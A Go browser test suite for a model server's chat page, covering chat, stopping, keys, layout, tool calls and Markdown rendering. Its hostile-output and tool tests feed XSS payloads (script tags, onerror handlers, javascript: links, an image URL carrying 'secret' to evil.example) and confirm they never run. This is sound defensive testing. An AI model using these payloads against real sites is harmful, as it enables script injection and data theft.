//go:build deep

package server_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"mla/runtime/serve/completion"
	"mla/runtime/serve/completion/completiontest"
	"mla/runtime/serve/server"
)

// TestPage checks the page in a browser, with its server.
func TestPage(t *testing.T) {
	browser := openBrowser(t)
	tests := map[string]func(*testing.T, context.Context){
		"chat": testPageChat, "stop": testPageStop, "hostile": testPageHostile, "key": testPageKey, "phone": testPagePhone,
		"markdown": testPageMarkdown, "failures": testPageFailures, "tools": testPageTools, "tinychat": testPageTinychat,
		"maths": testPageMaths, "files": testPageFiles, "list": testPageList, "branches": testPageBranches, "edges": testPageEdges,
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) { test(t, browser) })
	}
}

const shown = "Here is how:\n\n## Steps\n\n1. Read the *file*\n2. Sort `lines`\n   - by name\n   - by **size**\n\n" +
	"| Name | Size |\n|:--|--:|\n| a.txt | 1,204 |\n| b.txt | 88 |\n\n```go\nfunc main() {\n\tfmt.Println(\"x\")\n}\n```\n\n> See <https://go.dev/doc>."

func testPageChat(t *testing.T, browser context.Context) {
	s := serve(t, nil, completiontest.Answer{To: "Hello", Text: "They greet.</think>Grüezi, how are you?"},
		completiontest.Answer{To: "Show", Text: "A list and a table.</think>" + shown})
	b := open(t, browser, s.url)
	b.until("document.getElementById('context-text').textContent === '0 of 1,024 tokens'")
	b.say(strings.Repeat("Again, ", 20) + "Hello") // longer than a page of the cache
	if got := b.last(".text:not(.thinking .text)"); got != "Grüezi, how are you?" {
		t.Errorf("%q", got)
	}
	if eval[bool](b, "document.querySelector('.assistant .thinking').open") {
		t.Error("thoughts are not folded")
	}
	b.run(click(".assistant summary"))
	b.until("document.querySelector('.assistant .thinking .text').innerText === 'They greet.'")
	if got := b.last(".stats"); !strings.Contains(got, "tokens/s") || !strings.Contains(got, "prompt ") {
		t.Errorf("speed: %q", got)
	}
	used := eval[string](b, "document.getElementById('context-text').textContent")
	if strings.HasPrefix(used, "0 ") || !strings.HasSuffix(used, " of 1,024 tokens") {
		t.Errorf("context: %q", used)
	}

	b.click("Regenerate")
	b.until("!document.querySelector('.running') && document.querySelectorAll('.message').length === 2")
	if got := b.last(".stats"); !strings.Contains(got, "cached") {
		t.Errorf("the prompt was run again: %q", got)
	}
	b.run(press("#input", kb.ArrowUp)) // edits the last message
	b.until("document.activeElement.closest('.edit')")
	b.run(fill(".edit textarea", "Show"), press(".edit textarea", kb.Enter))
	b.until("document.querySelectorAll('.message').length === 2 && document.querySelector('.assistant table') && !document.querySelector('.running')")
	if got := b.last("td.right"); got != "1,204" {
		t.Errorf("%q", got)
	}

	b.run(call(page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: slowProps}), chromedp.Reload())
	b.until("document.querySelector('.assistant pre')")
	if title := eval[string](b, "document.title"); title != "Show" {
		t.Errorf("after loading the page again: %q", title)
	}
	for _, colours := range []string{"light", "dark"} {
		b.show(1280, 860, colours)
		b.until("document.querySelector('main').getBoundingClientRect().width > 900")
		b.picture(colours)
	}
	b.click("Settings")
	b.until("document.querySelector('#settings[open] #setting-temperature') && window.goOn")
	b.run(script("window.goOn()"))
	b.until("document.querySelector('#setting-temperature').placeholder === '0'")
	b.picture("settings")
	b.run(fill("#setting-system", "Hello"))
	b.click("Done")
	b.click("+ New conversation")
	b.say("?") // the system prompt has what is answered
	if got := b.last(".text:not(.thinking .text)"); !strings.HasPrefix(got, "Grüezi") {
		t.Errorf("with a system prompt: %q", got)
	}
	if n := eval[int](b, "document.querySelectorAll('#conversations li').length"); n != 2 {
		t.Errorf("%d conversations", n)
	}
	b.run(click("#conversations .current .delete")) // the confirmation is accepted
	b.until("document.querySelectorAll('#conversations li').length === 1 && !document.querySelector('.message')")
	b.quiet()
}

// slowProps makes a page wait for the server's description of its model until goOn is called.
const slowProps = `const ask = window.fetch; window.fetch = async (...a) => {
	if (String(a[0]).includes('props')) await new Promise((done) => { window.goOn = done; });
	return ask(...a);
};`

// testPageStop checks that Stop keeps the text so far and ends the request on the server.
func testPageStop(t *testing.T, browser context.Context) {
	s := serve(t, nil)
	s.model.Slow(2 * time.Millisecond)
	b := open(t, browser, s.url)
	b.until("!document.getElementById('context-text').textContent.startsWith('0 of 0')")
	b.run(press("#input", "x"+kb.Enter))
	b.until("document.querySelector('.assistant .thinking:not([hidden])')")
	b.run(press("#input", kb.Escape))
	b.until("!document.querySelector('.running')")
	s.wait("the request to end", func() bool { return len(s.service.Requests()) == 0 })
	if got := b.last(".stats"); got != "stopped" {
		t.Errorf("%q", got)
	}
	b.quiet()
}

// testPageHostile checks that no text of a model runs as code, and that the page fetches nothing because of
// it.
func testPageHostile(t *testing.T, browser context.Context) {
	attacks := []string{
		"<script>hacked=1</script>", "<img src=x onerror=hacked=1>", "<svg/onload=hacked=1>", "[x](javascript:hacked=1)", "[x](\tjava\nscript:hacked=1)",
		"![x](https://evil.example/?q=secret)", "[x](data:text/html,<script>hacked=1</script>)", "<a href='javascript:hacked=1'>x</a>",
		"```html\"><script>hacked=1</script>\n<script>hacked=1</script>\n```", "| <img src=x onerror=hacked=1> |\n|--|\n| <b onclick=hacked=1>x</b> |",
		"<https://a.example/\"onmouseover=\"hacked=1>", "[x](https://a.example/\"onclick=\"hacked=1)", "<iframe srcdoc='<script>top.hacked=1</script>'>",
		"`<img src=x onerror=hacked=1>`", "<style>*{display:none}</style>", "# <img src=x onerror=hacked=1>", "<base href=https://evil.example/>",
	}
	var answers []completiontest.Answer
	for i, a := range attacks {
		answers = append(answers, completiontest.Answer{To: fmt.Sprintf("A%02d.", i), Text: a + "</think>" + a})
	}
	s := serve(t, nil, answers...)
	b := open(t, browser, s.url)
	for i, a := range attacks {
		b.run(script("document.getElementById('new').click()"))
		b.say(fmt.Sprintf("A%02d.", i))
		b.run(click(".assistant summary"))
		found := eval[[]string](b, `[...document.querySelectorAll('.message .text *')].flatMap((e) => [
			...(/^(P|CODE|PRE|DIV|SPAN|BUTTON|TABLE|THEAD|TBODY|TR|TH|TD|H\d|BR|A|EM|STRONG)$/.test(e.tagName) ? [] : [e.tagName]),
			...[...e.attributes].filter((x) => x.name.startsWith('on') || x.name === 'style' || x.name === 'src').map((x) => x.name),
			...(e.tagName === 'A' && !/^(https?|mailto):/.test(e.href) ? [e.href] : [])])`)
		if len(found) > 0 {
			t.Errorf("%q makes %q", a, found)
		}
		b.run(script("document.querySelectorAll('.message .text *').forEach((e) => { if (e.tagName !== 'A' && e.tagName !== 'BUTTON') e.click(); })"))
	}
	// Titles of conversations and what somebody has stored are texts, too.
	b.run(script(`localStorage.setItem('mla.chat.x', JSON.stringify({id: 'x', title: '<img src=x onerror=hacked=1>', updated: 1, messages: [{role: 'user', content: '<script>hacked=1</script>'}]})),
		localStorage.setItem('mla.chat.y', '{'), localStorage.setItem('mla.chat.z', '{"id": "z", "messages": [null]}'), localStorage.setItem('mla.settings', '7')`), chromedp.Reload())
	b.until("document.querySelectorAll('#conversations li').length > 10")
	if eval[bool](b, "'hacked' in window") {
		t.Error("a text has run")
	}
	if n := eval[int](b, "performance.getEntriesByType('resource').filter((e) => !e.name.startsWith(location.origin)).length"); n > 0 {
		t.Errorf("%d things were fetched from elsewhere", n)
	}
	b.quiet()
	// The second wall: markup that a mistake in the page let through would not run.
	walls := eval[[]bool](b, `(async () => {
		const refused = (f) => { try { f(); return false; } catch { return true; } };
		const image = new Image(), failed = new Promise((done) => { image.onerror = () => done(true); image.onload = () => done(false); });
		image.src = 'https://evil.example/x.png';
		const script = document.createElement('script');
		return [refused(() => { document.body.innerHTML += '<p>'; }), refused(() => { script.text = 'hacked=1'; }), await failed,
			await fetch('https://evil.example/').then(() => false, () => true), !('hacked' in window)];
	})()`)
	for i, ok := range walls {
		if !ok {
			t.Errorf("wall %d does not stand", i)
		}
	}
}

// testPageKey checks that the page loads without a key, asks for one, and asks again if it is wrong.
func testPageKey(t *testing.T, browser context.Context) {
	s := serve(t, func(c *server.Config, _ *completion.Config) { c.Keys = []string{"secret"} }, completiontest.Answer{To: "Hello", Text: "x</think>Yes."})
	b := open(t, browser, s.url)
	for _, key := range []string{"wrong", "secret"} {
		b.until("document.querySelector('#key[open]')")
		b.run(press("#key-input", key+kb.Enter))
	}
	b.until("document.getElementById('model-name').textContent === 'tiny'")
	b.say("Hello")
	if got := b.last(".text:not(.thinking .text)"); got != "Yes." {
		t.Errorf("%q", got)
	}
	if eval[bool](b, "Object.values(localStorage).some((v) => v.includes('secret'))") {
		t.Error("the key was kept without being asked to")
	}
	b.quiet()
}

// testPagePhone checks that nothing is wider than a phone.
func testPagePhone(t *testing.T, browser context.Context) {
	s := serve(t, nil, completiontest.Answer{To: "Show", Text: "x</think>" + strings.Repeat("W", 120) + "\n\n" + shown + "\n\n| " + strings.Repeat("wide | ", 12) + "\n|" + strings.Repeat("--|", 12)})
	b := open(t, browser, s.url)
	b.show(390, 844, "light")
	b.say("Show")
	b.picture("phone")
	if over := eval[[]string](b, `[...document.querySelectorAll('main *')].filter((e) => !e.closest('pre, .table') && e.getBoundingClientRect().right > 390.5 && e.checkVisibility()).map((e) => e.outerHTML.slice(0, 80))`); len(over) > 0 {
		t.Errorf("wider than the screen: %q", over)
	}
	if eval[bool](b, "document.getElementById('sidebar').checkVisibility({visibilityProperty: true})") {
		t.Error("the conversations cover the screen")
	}
	b.run(click("#menu"))
	b.until("document.getElementById('sidebar').getBoundingClientRect().left === 0")
	b.picture("phone-menu")
	b.run(chromedp.KeyEvent(kb.Escape))
	b.until("!document.getElementById('sidebar').checkVisibility({visibilityProperty: true})")
	b.show(390, 844, "dark")
	b.picture("phone-dark")
	b.quiet()
}

// testPageFailures checks that failures are reported and can be retried.
func testPageFailures(t *testing.T, browser context.Context) {
	s := serve(t, nil, completiontest.Answer{To: "Hello", Text: "x</think>Yes."})
	b := open(t, browser, s.url)
	b.until("document.getElementById('model-name').textContent === 'tiny'")
	s.model.Fail(fmt.Errorf("the GPU fell off"))
	b.say("Hello")
	if got := b.last(".error"); !strings.Contains(got, "the GPU fell off") {
		t.Errorf("%q", got)
	}
	s.wait("the model to be loaded again", func() bool { return s.service.Stats().State == completion.Ready })
	b.click("Regenerate")
	b.until("!document.querySelector('.running') && document.querySelector('.assistant > .text').innerText === 'Yes.'")
	b.say(strings.Repeat("x", length))
	if got := b.last(".error"); !strings.Contains(got, "prompt is too long") {
		t.Errorf("%q", got)
	}
}

// declared are tools as somebody types them into the settings.
const declared = `[{"name": "weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}, "days": {"type": "integer"}}}}, {"type": "function", "function": {"name": "now"}}]`

// testPageTools checks that calls and results are shown folded, as text, and are sent back to the model as it
// has written them.
func testPageTools(t *testing.T, browser context.Context) {
	const attack = `<img src=x onerror=hacked=1>`
	s := serve(t, nil, append([]completiontest.Answer{
		{To: "<tool_response>" + attack, Text: "x</think>Oh."},
		{To: "Hack?", Text: "x</think><tool_call>weather<arg_key>city</arg_key><arg_value>" + attack + "</arg_value></tool_call>"},
	}, chats...)...)
	b := open(t, browser, s.url)
	b.until("document.getElementById('model-name').textContent === 'tiny'")
	b.click("Settings")
	b.run(fill("#setting-tools", `[{"title": "weather"}]`))
	b.until("document.getElementById('setting-tools').validationMessage === 'A list of functions with names, as JSON' && !localStorage.getItem('mla.settings')?.includes('title')")
	b.run(fill("#setting-tools", declared))
	b.until("document.getElementById('setting-tools').validationMessage === ''")
	b.picture("tools-settings")
	b.click("Done")

	b.show(390, 600, "light")
	b.say("Weather?")
	if got := b.last(".text:not(.thinking .text)"); got != "One moment." {
		t.Errorf("%q", got)
	}
	if !eval[bool](b, "document.querySelector('.results button').getBoundingClientRect().bottom <= document.getElementById('composer').getBoundingClientRect().top") {
		t.Error("the button for the results is hidden")
	}
	shown := "[...document.querySelectorAll('.call')].map((e) => [e.open, e.querySelector('summary').innerText, e.querySelector('pre').textContent].join('|'))"
	want := []string{"false|Call of weather {\"city\": \"Zürich \\\"old\\\"\", \"days\": 3}|{\n  \"city\": \"Zürich \\\"old\\\"\",\n  \"days\": 3\n}", "false|Call of now {}|{}"}
	if got := eval[[]string](b, shown); !slices.Equal(got, want) {
		t.Errorf("%q; expected %q", got, want)
	}
	b.run(click(".call summary"))
	b.until("document.querySelector('.call').open")
	for _, colours := range []string{"light", "dark"} {
		b.show(1280, 860, colours)
		b.picture("tools-" + colours)
	}
	b.show(390, 844, "light")
	b.picture("tools-phone")
	if over := eval[[]string](b, `[...document.querySelectorAll('main *')].filter((e) => !e.closest('pre, .table, summary') && e.getBoundingClientRect().right > 390.5 && e.checkVisibility()).map((e) => e.outerHTML.slice(0, 80))`); len(over) > 0 {
		t.Errorf("wider than a phone: %q", over)
	}
	b.show(1280, 860, "light")
	b.run(fill(".results textarea", "12 degrees"), fill(".results textarea:last-of-type", "noon"))
	b.click("Send the results")
	b.until("document.querySelectorAll('.message').length === 5 && !document.querySelector('.running')")
	if got := b.last(".text:not(.thinking .text)"); got != "It is 12 degrees." {
		t.Errorf("%q", got)
	}
	if got := b.last(".stats"); !strings.Contains(got, "cached") {
		t.Errorf("the calls were not replayed as they were written: %q", got)
	}
	b.run(chromedp.Reload())
	b.until("document.querySelectorAll('.message').length === 5")
	want = append(want, "false|Result of weather 12 degrees|12 degrees", "false|Result of now noon|noon")
	if got := eval[[]string](b, shown); !slices.Equal(got, want) || eval[bool](b, "Boolean(document.querySelector('.results'))") {
		t.Errorf("after loading the page again: %q; expected %q", got, want)
	}

	b.click("+ New conversation")
	b.say("Cut?") // a call without an end is shown, and not asked about
	if got := b.last("summary .preview"); got != "was not written to its end" || eval[bool](b, "Boolean(document.querySelector('.results'))") {
		t.Errorf("%q", got)
	}
	b.click("+ New conversation")
	b.say("Hack?")
	b.run(fill(".results textarea", attack))
	b.click("Send the result")
	b.until("[...document.querySelectorAll('.message > .text')].at(-1).innerText === 'Oh.'")
	b.run(script("document.querySelectorAll('.call').forEach((e) => { e.open = true; })"))
	b.run(script(`localStorage.setItem('mla.chat.x', JSON.stringify({id: 'x', title: 'x', updated: 9e15, messages: [{role: 'tool', name: '`+attack+`', content: '`+attack+`'}, {role: 'assistant', content: '', calls: [{id: '', name: '`+attack+`', arguments: '{}'}]}]})),
		localStorage.setItem('mla.chat.y', JSON.stringify({id: 'y', messages: [{role: 'assistant', content: '', calls: [null]}]})), sessionStorage.setItem('mla.current', 'x')`), chromedp.Reload())
	b.until("document.querySelectorAll('.call').length === 2 && document.querySelector('.results')")
	if eval[bool](b, "'hacked' in window || document.querySelector('.message img, .results img') !== null") {
		t.Error("a call or a result has run")
	}
	b.quiet()
}

// testPageMarkdown checks the HTML of Markdown texts.
func testPageMarkdown(t *testing.T, browser context.Context) {
	s := serve(t, nil)
	b := open(t, browser, s.url)
	html := func(text string) string {
		return eval[string](b, fmt.Sprintf(`import('/page/markdown.js').then((m) => { const e = document.createElement('div'); m.render(e, %q); return e.innerHTML.replaceAll(' tabindex="0"', ''); })`, text))
	}
	for _, c := range []struct{ text, want string }{
		{"a\nb\n\nc", "<p>a<br>b</p><p>c</p>"},
		{"*a* **b** ***c*** _d_ __e__ ~~f~~", "<p><em>a</em> <strong>b</strong> <strong><em>c</em></strong> <em>d</em> <strong>e</strong> <del>f</del></p>"},
		{"**a *b* c** 2 * 3 * 4 snake_case_name **open", "<p><strong>a <em>b</em> c</strong> 2 * 3 * 4 snake_case_name **open</p>"},
		{"`a*b*` ``c`d`` \\*e\\* `f", "<p><code>a*b*</code> <code>c`d</code> *e* `f</p>"},
		{"# A #\n### B", `<h3 class="level1">A</h3><h5 class="level3">B</h5>`},
		{"- a\n- b\n  - c\n\n  d\n1. e", "<ul><li>a</li><li><p>b</p><ul><li>c</li></ul><p>d</p></li></ul><ol><li>e</li></ol>"},
		{"3. a\n4. b", `<ol start="3"><li>a</li><li>b</li></ol>`},
		{"- [ ] a\n- [x] b", `<ul><li><input type="checkbox" disabled=""> a</li><li><input type="checkbox" disabled="" checked=""> b</li></ul>`},
		{"> a\n> > b\nc", "<blockquote><p>a</p><blockquote><p>b<br>c</p></blockquote></blockquote>"},
		{"a\n---\nb", "<p>a</p><hr><p>b</p>"},
		{"| a | b |\n|---|:-:|\n| `x|y` | 1\\|2 | 3 |\n| c |", `<div class="table"><table><thead><tr><th>a</th><th class="center">b</th></tr></thead><tbody><tr><td><code>x|y</code></td><td class="center">1|2</td></tr><tr><td>c</td><td class="center"></td></tr></tbody></table></div>`},
		{"~~~\n```\n~~~", `<div class="code"><div class="bar"><span>text</span><button type="button">Copy</button></div><pre><code>` + "```" + `</code></pre></div>`},
		{"```py\nx < 1", `<div class="code"><div class="bar"><span>py</span><button type="button">Copy</button></div><pre><code>x &lt; 1</code></pre></div>`},
		{"[a `b`](https://x.example/(y)) https://z.example/q?a=b. <b>", `<p><a href="https://x.example/(y)" title="https://x.example/(y)" target="_blank" rel="noopener noreferrer nofollow">a <code>b</code></a> <a href="https://z.example/q?a=b" title="https://z.example/q?a=b" target="_blank" rel="noopener noreferrer nofollow">https://z.example/q?a=b</a>. &lt;b&gt;</p>`},
		{"[a](/etc) [b](vbscript:x) ![c](x.png)", "<p>[a](/etc) [b](vbscript:x) ![c](x.png)</p>"},
	} {
		if got := html(c.text); got != c.want {
			t.Errorf("%q:\n got %s\nwant %s", c.text, got, c.want)
		}
	}
	// A text that is shown while it is written ends as it would at once, and none takes long.
	for name, text := range map[string]string{
		"grown": shown, "stars": strings.Repeat("*a", 5000), "ticks": strings.Repeat("`a``", 5000), "brackets": strings.Repeat("[", 20000) + strings.Repeat("](", 5000),
		"quotes": strings.Repeat(">", 5000) + "x", "lists": strings.Repeat("- ", 3000) + "x", "spaces": strings.Repeat(" ", 50000) + "x", "bars": strings.Repeat("|", 20000) + "\n" + strings.Repeat("|-", 20000),
		"links": strings.Repeat("https://", 5000), "lines": strings.Repeat("a\n", 50000),
	} {
		step := max(1, len(text)/3)
		if name == "grown" {
			step = 1
		}
		took := eval[float64](b, fmt.Sprintf(`import('/page/markdown.js').then((m) => {
			const text = %q, a = document.createElement('div'), b = document.createElement('div'), begin = performance.now();
			for (let n = 0; n < text.length; n += %d) m.render(a, text.slice(0, n));
			m.render(a, text);
			m.render(b, text);
			return a.innerHTML === b.innerHTML ? performance.now() - begin : -1;
		})`, text, step))
		if took < 0 || took > 5000 { // a quadratic one takes minutes
			t.Errorf("%s: %v ms; negative: the same text looks different", name, took)
		}
	}
	b.quiet()
}
